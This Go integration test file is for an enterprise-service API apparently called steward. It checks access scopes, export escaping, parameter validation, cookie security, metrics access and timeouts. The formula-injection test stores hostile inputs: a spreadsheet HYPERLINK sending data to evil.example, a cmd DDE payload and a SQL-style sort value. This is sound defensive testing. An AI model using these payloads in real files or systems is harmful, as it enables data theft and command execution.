package api_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/xuri/excelize/v2"

	"steward/api"
	"steward/domain"
	"steward/domain/postgres"
)

func TestIntegrationLooksEnterprisesUpByCreditCodeOnly(t *testing.T) {
	t.Parallel()
	b := setup(t)
	e := b.enterprise(t, "信用代码查询有限公司")
	b.enterprise(t, "另一家有限公司")
	integ := b.as(t, domain.RoleIntegration)

	found := integ.do(t, "GET", "/api/v1/enterprises?credit_code="+e.CreditCode, nil).want(t, 200).items()
	if len(found) != 1 || found[0]["id"] != e.ID || found[0]["name"] != e.Name || len(found[0]) != 2 {
		t.Fatalf("lookup by credit code: %v, want only the id and name of %s", found, e.Name)
	}
	if got := integ.do(t, "GET", "/api/v1/enterprises?credit_code=91320500MA1NOSUCH0", nil).want(t, 200).items(); len(got) != 0 {
		t.Fatalf("lookup of an unknown code: %v", got)
	}

	integ.do(t, "GET", "/api/v1/enterprises", nil).wantProblem(t, 403, "forbidden")
	integ.do(t, "GET", "/api/v1/enterprises?q=有限公司", nil).wantProblem(t, 403, "forbidden")
	integ.do(t, "GET", "/api/v1/exports/enterprises?format=csv", nil).wantProblem(t, 403, "forbidden")
	integ.do(t, "GET", "/api/v1/exports/enterprises?format=xlsx", nil).wantProblem(t, 403, "forbidden")
	integ.do(t, "GET", "/api/v1/enterprises/"+e.ID, nil).wantProblem(t, 403, "forbidden")
	integ.do(t, "GET", "/api/v1/enterprises/"+e.ID+"/timeline", nil).wantProblem(t, 403, "forbidden")

	// The enterprise found is the one its tickets name.
	r := integ.do(t, "POST", "/api/v1/tickets", map[string]any{"enterprise_id": e.ID, "category_id": "01900000-0000-7000-8000-000000000008",
		"title": "热线转来的诉求", "description": "12345 热线转来的企业诉求，通过信用代码找到企业。"}).want(t, 201)
	if r.body["enterprise_id"] != e.ID {
		t.Fatalf("ticket: %s", r.raw)
	}

	// Staff find by exact code too, with the whole record.
	d := b.as(t, domain.RoleDispatcher).do(t, "GET", "/api/v1/enterprises?credit_code="+e.CreditCode, nil).want(t, 200).items()
	if len(d) != 1 || d[0]["credit_code"] != e.CreditCode || d[0]["contacts"] == nil {
		t.Fatalf("dispatcher lookup: %v", d)
	}
}

func TestScopesFailClosed(t *testing.T) {
	t.Parallel()
	// A role the scope functions do not name sees nothing, whatever the permission table says.
	unknown := &domain.Actor{UserID: "01900000-0000-7000-8000-00000000ffff", Role: domain.Role("contractor")}
	for name, scope := range map[string]func(*domain.Actor) domain.Scope{
		"EnterpriseScope": domain.EnterpriseScope, "ProjectScope": domain.ProjectScope,
		"AssignmentScope": domain.AssignmentScope, "StatsScope": domain.StatsScope,
	} {
		if s := scope(unknown); !s.None() {
			t.Errorf("%s of an unnamed role: %+v, want nothing", name, s)
		}
		for _, role := range domain.Roles {
			a := &domain.Actor{UserID: unknown.UserID, Role: role, DepartmentID: "d", EnterpriseID: "e"}
			if s := scope(a); s.All && role != domain.RoleDispatcher {
				t.Errorf("%s gives %s everything", name, role)
			}
		}
	}
}

func TestSpreadsheetCellsNeverRunAsFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	first17 := "913205000000" + "77777"
	c, _ := domain.CreditCodeCheckChar(first17)
	evil := &domain.Enterprise{Name: "公式注入测试有限公司", CreditCode: first17 + string(c), Industry: "C", Scale: domain.ScaleSmall,
		KeyLevel: domain.KeyDistrict, LegalRepresentative: "+1+1", Address: `=HYPERLINK("http://evil.example/?d="&A1,"点击")`,
		Street: "-2+3", Tags: []string{"@SUM(1+1)"}, Contacts: []domain.Contact{{Name: "=1+1", Title: "'=引号", Phone: "13812345678"}}}
	if err := postgres.NewEnterpriseService(b.db).CreateEnterprise(system, evil); err != nil {
		t.Fatal(err)
	}
	d := b.as(t, domain.RoleDispatcher)
	want := map[int]string{2: "'+1+1", 6: "'" + evil.Address, 7: "'-2+3", 8: "'@SUM(1+1)", 9: "'=1+1", 10: "''=引号"}
	check := func(format string, rows [][]string) {
		t.Helper()
		if len(rows) != 2 {
			t.Fatalf("%s export: %q", format, rows)
		}
		for i, w := range want {
			if rows[1][i] != w {
				t.Errorf("%s column %d = %q, want %q", format, i, rows[1][i], w)
			}
		}
		if rows[1][0] != evil.Name {
			t.Errorf("%s: a harmless name changed: %q", format, rows[1][0])
		}
	}
	csvFile := d.do(t, "GET", "/api/v1/exports/enterprises?format=csv", nil).want(t, 200).raw
	check("csv", readCSV(t, csvFile))
	check("xlsx", readXLSX(t, d.do(t, "GET", "/api/v1/exports/enterprises?format=xlsx", nil).want(t, 200).raw))

	// The export imported back changes nothing: the quotes come off again.
	b.work(t)
	res := d.importFile(t, "往返.csv", csvFile)
	if res.body["unchanged"] != float64(1) || res.body["failed"] != float64(0) {
		t.Fatalf("re-import of the export: %s", res.raw)
	}

	// The monthly report names stewards, departments, categories and tickets people typed.
	b.user(t, domain.RoleSteward) // an ordinary row beside it
	u := &domain.User{Username: "formula-steward", DisplayName: "=cmd|' /C calc'!A0", Role: domain.RoleSteward, DepartmentID: b.bureau.ID}
	if err := postgres.NewUserService(b.db).CreateUser(system, u, password, false); err != nil {
		t.Fatal(err)
	}
	month := domain.Today(time.Now()).Format("2006-01")
	f, err := excelize.OpenReader(bytes.NewReader(d.do(t, "GET", "/api/v1/reports/monthly?month="+month, nil).want(t, 200).raw))
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := f.GetRows("项目管家")
	found := false
	for _, r := range rows[1:] {
		if strings.HasPrefix(r[0], "=") {
			t.Errorf("项目管家 cell %q would run as a formula", r[0])
		}
		found = found || r[0] == "'"+u.DisplayName
	}
	if !found {
		t.Errorf("项目管家 rows %q lack the quoted steward", rows)
	}
}

// TestTamperedListParametersAre422 tries, on every list of the OpenAPI document, cursors a client
// edited by hand and sort orders that do not exist: the answer is a 422 on the field (or, for a
// cursor that is merely another valid position, a page), never a 500.
func TestTamperedListParametersAre422(t *testing.T) {
	t.Parallel()
	b := setup(t)
	e := b.enterprise(t, "翻页测试有限公司")
	callers := map[string]*client{
		"admin": b.as(t, domain.RoleAdmin), "auditor": b.as(t, domain.RoleAuditor), "dispatcher": b.as(t, domain.RoleDispatcher),
	}
	who := func(path string) *client {
		switch {
		case strings.HasPrefix(path, "/api/v1/audit"):
			return callers["auditor"]
		case strings.HasPrefix(path, "/api/v1/users"), strings.HasPrefix(path, "/api/v1/webhooks"):
			return callers["admin"]
		}
		return callers["dispatcher"]
	}
	b64 := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	id := "01900000-0000-7000-8000-000000000001"
	broken := []string{"%25%25%25", b64(`{"a":1}`), b64(`[]`), b64(`["not-an-id"]`), b64(`[1,2,3,4,5,6]`)}
	odd := []string{b64(`["not-a-time","` + id + `"]`), b64(`["99999999999999999999","` + id + `"]`), b64(`["` + id + `"]`)}

	var doc struct {
		Paths map[string]struct {
			Get *struct {
				OperationID string `json:"operationId"`
				Parameters  []struct {
					Name string `json:"name"`
				} `json:"parameters"`
			} `json:"get"`
		} `json:"paths"`
	}
	raw, err := api.New(api.Config{}).OpenAPI()
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	lists := 0
	for path, item := range doc.Paths {
		if item.Get == nil {
			continue
		}
		params := map[string]bool{}
		for _, p := range item.Get.Parameters {
			params[p.Name] = true
		}
		if !params["cursor"] && !params["sort"] {
			continue
		}
		if strings.HasPrefix(path, "/api/v1/projects/{id}") {
			path = strings.ReplaceAll(path, "{id}", b.project(t, e.ID, "游标测试项目"+itoa(b.n.Add(1))).ID)
		}
		path = strings.ReplaceAll(path, "{id}", e.ID)
		if strings.Contains(path, "{") {
			t.Errorf("%s: no object to list under", path)
			continue
		}
		lists++
		c := who(path)
		try := func(query string, want ...int) {
			t.Helper()
			r := c.do(t, "GET", path+"?"+query, nil)
			if !slices.Contains(want, r.StatusCode) {
				t.Errorf("%s %s?%s: %d, want %v; body %s", item.Get.OperationID, path, query, r.StatusCode, want, r.raw)
			}
			if r.StatusCode == 422 && r.fieldErrors()["cursor"] == "" && r.fieldErrors()["sort"] == "" {
				t.Errorf("%s?%s: 422 names no field: %s", path, query, r.raw)
			}
		}
		if params["sort"] {
			try("sort=evil", 422)
			try("sort=name%3BDROP", 422)
		}
		if !params["cursor"] {
			continue
		}
		for _, cur := range broken {
			try("cursor="+cur, 422)
		}
		for _, cur := range odd {
			try("cursor="+cur, 200, 422)
			if params["sort"] {
				for _, sort := range []string{"name", "due"} {
					try("sort="+sort+"&cursor="+cur, 200, 422)
				}
			}
		}
	}
	if lists < 10 {
		t.Fatalf("only %d lists found in the OpenAPI document", lists)
	}
	// The lists ordered by a time answer a word where the time should be with 422.
	for _, path := range []string{"/api/v1/visits", "/api/v1/tickets?sort=due"} {
		sep := "?"
		if strings.Contains(path, "?") {
			sep = "&"
		}
		callers["dispatcher"].do(t, "GET", path+sep+"cursor="+odd[0], nil).wantProblem(t, 422, "validation_failed")
	}
}

func TestAnHTTPSBaseURLMakesCookiesSecure(t *testing.T) {
	t.Parallel()
	b := setup(t)
	u := b.user(t, domain.RoleSteward)
	srv := httptest.NewServer(api.New(api.Config{Auth: b.auth, Audit: postgres.NewAuditService(b.db), BaseURL: "https://steward.example.gov.cn"}))
	defer srv.Close()
	b.srv = srv
	r := b.anonymous().do(t, "POST", "/api/v1/auth/login", map[string]any{"username": u.Username, "password": password}).want(t, 200)
	if c := r.Header.Get("Set-Cookie"); !strings.Contains(c, "Secure") {
		t.Fatalf("Set-Cookie %q without Secure behind an https base URL", c)
	}
	if h := r.Header.Get("Strict-Transport-Security"); !strings.Contains(h, "max-age=") {
		t.Fatalf("no HSTS behind an https base URL: %q", h)
	}
}

func TestMetricsAreForTheScraperOnly(t *testing.T) {
	t.Parallel()
	b := setup(t)
	collector := b.db.Collector()
	registry := func() *prometheus.Registry {
		reg := prometheus.NewRegistry()
		reg.MustRegister(collector)
		return reg
	}
	serve := func(cfg api.Config) *httptest.Server {
		cfg.Auth, cfg.Metrics = b.auth, registry()
		srv := httptest.NewServer(api.New(cfg))
		t.Cleanup(srv.Close)
		return srv
	}
	get := func(srv *httptest.Server, headers ...string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest("GET", srv.URL+"/metrics", nil)
		for i := 0; i+1 < len(headers); i += 2 {
			req.Header.Set(headers[i], headers[i+1])
		}
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		body, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(body)
	}

	t.Run("WithATokenOnlyItsBearer", func(t *testing.T) {
		srv := serve(api.Config{MetricsToken: "scrape-secret-0123456789"})
		for _, h := range [][]string{nil, {"Authorization", "Bearer wrong"}, {"Authorization", "scrape-secret-0123456789"}} {
			if code, _ := get(srv, h...); code != 401 {
				t.Errorf("/metrics with %v: %d, want 401", h, code)
			}
		}
		if code, body := get(srv, "Authorization", "Bearer scrape-secret-0123456789"); code != 200 || !strings.Contains(body, "steward_river_jobs") {
			t.Errorf("/metrics with the token: %d", code)
		}
	})

	t.Run("WithoutATokenLoopbackOnly", func(t *testing.T) {
		srv := serve(api.Config{})
		if code, _ := get(srv); code != 200 {
			t.Errorf("/metrics from loopback: %d, want 200", code)
		}
		// A local reverse proxy forwarding a remote caller, trusted or not.
		if code, _ := get(srv, "X-Forwarded-For", "203.0.113.7"); code != 403 {
			t.Errorf("/metrics through an untrusted local proxy: %d, want 403", code)
		}
		proxied := serve(api.Config{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}})
		if code, _ := get(proxied, "X-Forwarded-For", "203.0.113.7"); code != 403 {
			t.Errorf("/metrics for a remote caller behind a trusted proxy: %d, want 403", code)
		}
		// A caller from another machine.
		h := api.New(api.Config{Auth: b.auth, Metrics: registry()})
		req := httptest.NewRequest("GET", "/metrics", nil)
		req.RemoteAddr = "198.51.100.4:40000"
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		if rec.Code != 403 {
			t.Errorf("/metrics from another machine: %d, want 403", rec.Code)
		}
	})

	t.Run("JobCountsAreCachedBetweenScrapes", func(t *testing.T) {
		srv := serve(api.Config{})
		available := func() string {
			_, body := get(srv)
			for _, line := range strings.Split(body, "\n") {
				if strings.HasPrefix(line, `steward_river_jobs{state="available"}`) {
					return line
				}
			}
			t.Fatalf("no available job count in\n%s", body)
			return ""
		}
		before := available()
		if _, err := b.db.River.Insert(system, domain.SessionSweepArgs{}, nil); err != nil {
			t.Fatal(err)
		}
		if after := available(); after != before {
			t.Fatalf("a second scrape within %v counted the jobs again: %q, then %q", postgres.JobCountsTTL, before, after)
		}
	})
}

func TestANotificationStreamEndsWithItsCredential(t *testing.T) {
	t.Parallel()
	b := setup(t)
	hub := postgres.NewNotificationHub(b.db, nil)
	hub.Start(context.Background())
	t.Cleanup(hub.Stop)
	srv, _ := customServer(t, b, api.Config{Notifications: postgres.NewNotificationService(b.db), NotificationFeed: hub,
		Users: postgres.NewUserService(b.db), StreamRecheck: 100 * time.Millisecond})
	ended := func(t *testing.T, s *sseStream, what string) {
		t.Helper()
		for {
			select {
			case _, ok := <-s.events:
				if !ok {
					return
				}
			case <-time.After(10 * time.Second):
				t.Fatalf("the stream is still open after %s", what)
			}
		}
	}

	t.Run("Logout", func(t *testing.T) {
		c := srv.login(t, b.user(t, domain.RoleSteward).Username)
		s := c.stream(t)
		s.none(t, 300*time.Millisecond) // a live session keeps it open
		c.do(t, "POST", "/api/v1/auth/logout", nil).want(t, 204)
		ended(t, s, "logout")
	})

	t.Run("IdleExpiry", func(t *testing.T) {
		c := srv.login(t, b.user(t, domain.RoleSteward).Username)
		s := c.stream(t)
		if _, err := b.db.SQL.ExecContext(system, `UPDATE sessions SET last_seen_at = now() - interval '31 minutes'`); err != nil {
			t.Fatal(err)
		}
		ended(t, s, "the session's idle timeout")
	})

	t.Run("DisabledAccountsToken", func(t *testing.T) {
		u := b.user(t, domain.RoleIntegration)
		secret := srv.login(t, u.Username).do(t, "POST", "/api/v1/me/tokens", map[string]any{"name": "热线"}).want(t, 201).body["token"].(string)
		script := &client{b: srv, http: http.DefaultClient, bearer: secret}
		s := script.stream(t, "Authorization", "Bearer "+secret)
		s.none(t, 300*time.Millisecond)
		admin := srv.login(t, b.user(t, domain.RoleAdmin).Username)
		admin.do(t, "PATCH", "/api/v1/users/"+u.ID, map[string]any{"status": "disabled"}, "If-Match", `"1"`).want(t, 200)
		ended(t, s, "the account was disabled")
	})
}

func TestServerTimeouts(t *testing.T) {
	t.Parallel()
	b := setup(t)
	h := api.New(api.Config{Auth: b.auth, Users: postgres.NewUserService(b.db), Imports: postgres.NewImportService(b.db)})
	srv := h.HTTPServer(api.Timeouts{ReadHeader: 300 * time.Millisecond, Read: 300 * time.Millisecond}, nil)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })

	t.Run("ASlowHeaderClientIsCutOff", func(t *testing.T) {
		conn, err := net.Dial("tcp", ln.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: steward\r\n"); err != nil { // and never the blank line
			t.Fatal(err)
		}
		start := time.Now()
		conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		rest, err := io.ReadAll(conn)
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			t.Fatalf("the connection is still open after %v", time.Since(start))
		}
		if strings.Contains(string(rest), "200 OK") {
			t.Fatalf("an unfinished request was answered: %q", rest)
		}
	})

	t.Run("AnUploadGetsADeadlineByItsSize", func(t *testing.T) {
		b.srv = &httptest.Server{URL: "http://" + ln.Addr().String()}
		c := b.login(t, b.user(t, domain.RoleDispatcher).Username)
		body := upload("慢.csv", []byte("企业名称,统一社会信用代码\n"+strings.Repeat("甲有限公司,91320500MA1EXAMPLW\n", 200)))
		pr, pw := io.Pipe()
		go func() { // a slow line: the file arrives over about a second, longer than the read timeout
			for i := 0; i < len(body.data); i += len(body.data)/5 + 1 {
				time.Sleep(200 * time.Millisecond)
				pw.Write(body.data[i:min(i+len(body.data)/5+1, len(body.data))])
			}
			pw.Close()
		}()
		req, _ := http.NewRequest("POST", b.srv.URL+"/api/v1/imports/enterprises", pr)
		req.ContentLength = int64(len(body.data))
		req.Header.Set("Content-Type", body.contentType)
		res, err := c.http.Do(req)
		if err != nil {
			t.Fatalf("the slow upload was cut off: %v", err)
		}
		defer res.Body.Close()
		if res.StatusCode != 202 {
			msg, _ := io.ReadAll(res.Body)
			t.Fatalf("slow upload: %d %s", res.StatusCode, msg)
		}
	})
}
